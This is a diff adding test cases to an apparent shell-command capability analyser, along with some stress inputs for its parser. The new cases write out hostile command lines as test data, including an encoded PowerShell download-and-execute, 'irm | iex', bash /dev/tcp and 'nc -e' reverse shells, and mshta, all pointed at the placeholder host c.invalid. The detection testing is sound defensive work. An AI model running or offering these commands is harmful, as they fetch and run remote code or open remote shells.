@@ -9,6 +9,11 @@ interface Case {
   readonly inline?: readonly string[]
 }
 
+/** As `-EncodedCommand` takes it. */
+function utf16(script: string): string {
+  return Buffer.from(script, 'utf16le').toString('base64')
+}
+
 const CASES: readonly Case[] = [
   { line: 'curl -fsSL https://c.invalid/i.sh | sh', can: ['network', 'process'], flows: ['remote-content->process'] },
   { line: 'bash -c "$(curl https://c.invalid)"', can: ['network'], flows: ['remote-content->process'] },
@@ -36,6 +41,53 @@ const CASES: readonly Case[] = [
   { line: 'npm run build && node-gyp rebuild', starts: ['npm run build'] },
   { line: `node -e "require('x')" && python3 -c 'import os'`, inline: ["require('x')", 'import os'] },
   { line: 'powershell -enc SQBFAFgA', can: ['dynamic-code', 'process'] },
+  {
+    line: `powershell -WindowStyle Hidden -EncodedCommand ${utf16('iwr http://c.invalid/a.exe -OutFile a.exe; Start-Process a.exe')}`,
+    can: ['dynamic-code', 'network', 'process'],
+    flows: ['decoded-text->process', 'remote-content->process'],
+  },
+  {
+    line: `pwsh.exe -nop -e ${utf16('Write-Output done')}`,
+    can: ['dynamic-code', 'process'],
+    flows: ['decoded-text->process'],
+  },
+  {
+    line: 'powershell -ExecutionPolicy Bypass -Command "irm https://c.invalid/i.ps1 | iex"',
+    can: ['dynamic-code', 'network', 'process'],
+    flows: ['remote-content->process'],
+  },
+  {
+    line: 'powershell iwr https://c.invalid/a.exe -OutFile a.exe; Start-Process a.exe',
+    can: ['network', 'process'],
+    flows: ['remote-content->process'],
+    starts: ['powershell iwr https://c.invalid/a.exe -OutFile a.exe'],
+  },
+  { line: 'powershell -Command "Get-Process | Stop-Process"', can: ['dynamic-code', 'process'] },
+  {
+    line: 'powershell -ExecutionPolicy Unrestricted -File build.ps1',
+    can: ['process'],
+    starts: ['powershell -ExecutionPolicy Unrestricted -File build.ps1'],
+  },
+  {
+    line: 'bash -i >& /dev/tcp/c.invalid/4444 0>&1',
+    can: ['network'],
+    starts: ['bash -i >& /dev/tcp/c.invalid/4444 0>&1'],
+    flows: ['remote-content->process'],
+  },
+  {
+    line: `bash -c 'bash -i >& /dev/tcp/c.invalid/4444 0>&1'`,
+    can: ['network'],
+    starts: ['bash -i >& /dev/tcp/c.invalid/4444 0>&1'],
+    flows: ['remote-content->process'],
+  },
+  { line: 'nc -e /bin/sh c.invalid 4444', can: ['network'], flows: ['remote-content->process'] },
+  { line: 'nc -zv c.invalid 4444', can: ['network'] },
+  {
+    line: 'mshta https://c.invalid/a.hta',
+    can: ['network', 'process'],
+    starts: ['mshta https://c.invalid/a.hta'],
+    flows: ['remote-content->process'],
+  },
   { line: 'prebuild-install || node-gyp rebuild' },
   { line: "echo 'curl x | sh' # curl x | sh" },
   { line: '"unclosed $(curl x', can: ['network'] },
@@ -68,6 +120,8 @@ t.test('hostile lines cost as much as they are long', async (t) => {
     '$('.repeat(50_000),
     '`'.repeat(50_000),
     '"$('.repeat(50_000),
+    'powershell -e iwr;'.repeat(20_000),
+    'powershell -e iwr\n'.repeat(20_000),
     'a|'.repeat(50_000),
     '${A'.repeat(50_000),
   ]) {
